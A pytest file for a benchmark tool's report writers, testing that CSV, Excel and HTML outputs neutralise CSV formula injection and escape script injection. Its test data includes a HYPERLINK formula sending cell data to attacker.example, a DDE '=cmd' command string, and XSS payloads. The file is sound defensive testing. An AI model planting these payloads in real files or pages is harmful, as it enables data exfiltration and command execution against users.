"""Reports never execute model output or users' text (issue 15.7), and say clearly what is wrong
with their input (issue 17.5): every writer is checked on hostile records.

- CSV (results.csv, stats.csv, ratings.csv, compare --csv): no text cell begins with = + - @,
  tab or CR (OWASP's CSV injection); cells that do begin so are numbers;
- report.xlsx: no formula anywhere in the sheets' XML (read from the zip, not through the
  writer), and the hostile answers come back as the exact strings;
- report.html: the hostile texts appear escaped, and the page holds no script, image or handler.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from studyrecords import record, write_run

from wattbench.report.build import write_report
from wattbench.report.cells import FORMULA_TRIGGERS, csv_cell

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'
HOSTILE_MODEL = "=cmd|' /C calc'!A0"
HOSTILE_TEXTS = (HYPERLINK, "+1+2", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
                 "<script>alert(1)</script>", "<img src=x onerror=alert(1)>")


def _hostile_run(tmp_path: Path) -> Path:
    return write_run(tmp_path / "run", [
        record(model, "qa", "short", level, run, output_text=text, judge_reason=text,
               system_prompt="@evil" if model == HOSTILE_MODEL else "default",
               machine_cpu="<img src=x onerror=alert(1)>")
        for model in (HOSTILE_MODEL, "<script>alert('m')</script>")
        for level in ("L0", "L1")
        for run, text in enumerate(HOSTILE_TEXTS)
    ])


def _assert_inert_csv(path: Path) -> int:
    """Every cell that begins like a formula is a number; returns the number of cells read."""
    cells = 0
    with path.open(newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            for cell in row:
                cells += 1
                if cell.startswith(FORMULA_TRIGGERS):
                    float(cell)  # raises for a formula-like text: the test fails naming the cell
    return cells


def test_csv_cell_neutralises_formula_starts_only() -> None:
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert [csv_cell(t)[0] for t in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "\0=1")] == ["'"] * 7
    assert csv_cell(-2.5) == -2.5 and csv_cell(None) == "" and csv_cell("L0") == "L0"
    assert csv_cell("a=1") == "a=1"  # only the first character matters


def test_every_csv_the_report_writes_is_inert(tmp_path: Path) -> None:
    write_report([_hostile_run(tmp_path)], tmp_path / "out")
    for name in ("results.csv", "stats.csv", "ratings.csv"):
        assert _assert_inert_csv(tmp_path / "out" / name) > 100, name
    models = {row["model"] for row in csv.DictReader((tmp_path / "out" / "results.csv").open())}
    assert "'" + HOSTILE_MODEL in models  # the text is kept, behind the quote


def test_the_workbook_holds_no_formula_and_the_exact_texts(tmp_path: Path) -> None:
    write_report([_hostile_run(tmp_path)], tmp_path / "out")
    book_path = tmp_path / "out" / "report.xlsx"
    with zipfile.ZipFile(book_path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 9
        for name in sheets:
            xml = book.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]", xml), name  # a formula element
            assert "<hyperlink" not in xml, name
        assert not any("externalLink" in n for n in book.namelist())
    detail = list(openpyxl.load_workbook(book_path)["Quality detail"].iter_rows())
    header = [c.value for c in detail[0]]
    texts = [row[header.index("output_text")] for row in detail[1:]]
    # OOXML stores a carriage return as _x000D_ (ECMA-376 ST_Xstring); Excel shows it as CR,
    # openpyxl hands back the escape.
    assert {c.value for c in texts} == {t.replace("\r", "_x000D_") for t in HOSTILE_TEXTS}
    assert all(c.data_type == "s" for row in detail for c in row if isinstance(c.value, str))
    models = {row[header.index("model")].value for row in detail[1:]}
    assert HOSTILE_MODEL in models


def test_the_page_renders_hostile_text_as_text(tmp_path: Path) -> None:
    write_report([_hostile_run(tmp_path)], tmp_path / "out")
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<script" not in page and "<img" not in page and "onerror=" not in page.replace(
        "onerror=alert", ""
    )
    assert "&lt;script&gt;alert(&#x27;m&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_the_compare_csv_is_inert(tmp_path: Path) -> None:
    base = write_run(tmp_path / "b", [record(HOSTILE_MODEL, run=r, decode_tokens_per_s=100.0 + r)
                                      for r in range(5)])
    new = write_run(tmp_path / "n", [record(HOSTILE_MODEL, run=r, decode_tokens_per_s=50.0 + r)
                                     for r in range(5)])
    done = subprocess.run([sys.executable, "-m", "wattbench.report.cli", "compare", str(base), str(new),
                           "--csv", str(tmp_path / "rows.csv")], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert _assert_inert_csv(tmp_path / "rows.csv") > 50
    labels = [row["case"] for row in csv.DictReader((tmp_path / "rows.csv").open())]
    assert all(label.startswith("'=cmd") for label in labels)
    changes = [row["change_pct"] for row in csv.DictReader((tmp_path / "rows.csv").open())]
    assert any(c.startswith("-") and float(c) < 0 for c in changes)  # numbers stay numbers


def _wattbench(*args: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "wattbench.report.cli", *args]
    return subprocess.run(command, capture_output=True, text=True)


@pytest.mark.parametrize("command", ["report", "compare"])
def test_a_missing_folder_or_file_is_named(tmp_path: Path, command: str) -> None:
    run = write_run(tmp_path / "run", [record()])
    extra = [str(run)] if command == "compare" else []
    folder = _wattbench(command, *extra, str(tmp_path / "typo"))
    assert folder.returncode == 2 and f"no such folder: {tmp_path / 'typo'}" in folder.stderr
    assert "--out" not in folder.stderr
    file = _wattbench(command, *extra, str(tmp_path / "out.json"))
    assert file.returncode == 2 and f"no such file: {tmp_path / 'out.json'}" in file.stderr


def test_a_report_over_zero_records_says_there_is_nothing_to_report(tmp_path: Path) -> None:
    run = write_run(tmp_path / "run", [
        {"case_id": "m-qa-short-L0", "model": "m", "task": "qa", "load": "short", "level": "L0", "run": 0,
         "error": "context overflow"}
    ])
    done = _wattbench("report", str(run))
    assert done.returncode == 2
    assert "nothing to report" in done.stderr and "1 failed run(s)" in done.stderr
    assert not (run / "results.csv").exists() and not (run / "report.html").exists()


def test_a_partial_run_is_named_at_the_top_of_the_page(tmp_path: Path) -> None:
    records = [record(level=lv, run=r) for lv in ("L0", "L1", "L2") for r in range(3)]
    failed = {"case_id": "m-qa-short-L3", "model": "m", "task": "qa", "load": "short", "level": "L3",
              "run": 0, "error": "ContextOverflowError: 600 + 256 tokens do not fit 512\nmore"}
    # L2's run 1 failed once and then succeeded on a rerun: it is not a failed case.
    retried = {**failed, "case_id": "m-qa-short-L2", "level": "L2", "run": 1, "error": "killed"}
    run = write_run(tmp_path / "run", [retried, *records, failed])
    written = write_report([run], tmp_path / "out")
    assert written.outcomes.failed_cases == {"m-qa-short-L3": failed["error"]}
    page = (tmp_path / "out" / "report.html").read_text()
    top = page[: page.index("<h2>")]
    assert "Partial run: 3 of 4 cases finished every run; 1 failed: m-qa-short-L3 (ContextOverflowError: " \
           "600 + 256 tokens do not fit 512)" in top
    assert "Some cases ran" not in top and "?</span>" not in page  # 3 runs per case: not provisional
